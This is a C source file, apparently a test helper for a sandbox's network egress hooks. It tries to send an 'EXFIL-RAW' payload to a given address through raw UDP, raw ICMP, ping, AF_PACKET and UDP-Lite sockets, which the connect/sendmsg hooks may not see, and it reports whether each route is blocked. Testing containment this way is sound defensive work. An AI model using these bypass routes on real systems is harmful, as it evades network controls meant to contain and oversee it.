/* Attacker helper: raw_sockets MODE ADDR PORT: reach ADDR past the
 * connect/sendmsg hooks with a socket they do not see.
 *   rawudp   SOCK_RAW/IPPROTO_UDP: a hand-made UDP datagram to ADDR:PORT
 *   icmp     SOCK_RAW/IPPROTO_ICMP: an echo request to ADDR
 *   ping     SOCK_DGRAM/IPPROTO_ICMP (a ping socket): an echo request
 *   packet   AF_PACKET/SOCK_RAW: a socket that could send any frame
 *   udplite  SOCK_DGRAM/IPPROTO_UDPLITE: connect() + send() to ADDR:PORT
 * Prints "MODE: sent", "MODE: socket refused: ERR" or "MODE: send
 * failed: ERR"; exit 0 either way (the test reads the line). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#ifndef IPPROTO_UDPLITE
#define IPPROTO_UDPLITE 136
#endif

static const char payload[] = "EXFIL-RAW";

static int done(const char *mode, const char *what, int err)
{
	if (err)
		printf("%s: %s: %s\n", mode, what, strerrorname_np(err) ?: "?");
	else
		printf("%s: sent\n", mode);
	return 0;
}

static unsigned short csum(const void *p, size_t n)
{
	const unsigned char *b = p;
	unsigned long s = 0;

	for (size_t i = 0; i + 1 < n; i += 2)
		s += b[i] << 8 | b[i + 1];
	if (n & 1)
		s += b[n - 1] << 8;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return htons(~s & 0xffff);
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";
	struct sockaddr_in to = { .sin_family = AF_INET };
	unsigned char buf[64] = { 0 };
	size_t len = 0;
	int fd;

	if (argc < 4) {
		fprintf(stderr, "usage: raw_sockets MODE ADDR PORT\n");
		return 2;
	}
	inet_pton(AF_INET, argv[2], &to.sin_addr);
	to.sin_port = htons(atoi(argv[3]));
	if (!strcmp(mode, "packet")) {
		fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
		return done(mode, "socket refused", fd < 0 ? errno : 0);
	}
	if (!strcmp(mode, "rawudp")) {
		fd = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
		buf[0] = 0x30, buf[1] = 0x39;			/* source port */
		memcpy(buf + 2, &to.sin_port, 2);
		len = 8 + sizeof(payload);
		buf[4] = len >> 8, buf[5] = len & 0xff;		/* no checksum */
		memcpy(buf + 8, payload, sizeof(payload));
		to.sin_port = 0;
	} else if (!strcmp(mode, "icmp") || !strcmp(mode, "ping")) {
		fd = socket(AF_INET, mode[0] == 'i' ? SOCK_RAW : SOCK_DGRAM,
			    IPPROTO_ICMP);
		buf[0] = 8;					/* echo request */
		memcpy(buf + 8, payload, sizeof(payload));
		len = 8 + sizeof(payload);
		memcpy(buf + 2, (unsigned short[]){ csum(buf, len) }, 2);
		to.sin_port = 0;
	} else if (!strcmp(mode, "udplite")) {
		fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE);
		if (fd < 0)
			return done(mode, "socket refused", errno);
		if (connect(fd, (void *)&to, sizeof(to)))
			return done(mode, "connect failed", errno);
		return done(mode, "send failed", send(fd, payload, sizeof(payload),
						      0) < 0 ? errno : 0);
	} else {
		fprintf(stderr, "raw_sockets: unknown mode %s\n", mode);
		return 2;
	}
	if (fd < 0)
		return done(mode, "socket refused", errno);
	return done(mode, "send failed", sendto(fd, buf, len, 0, (void *)&to,
						sizeof(to)) < 0 ? errno : 0);
}
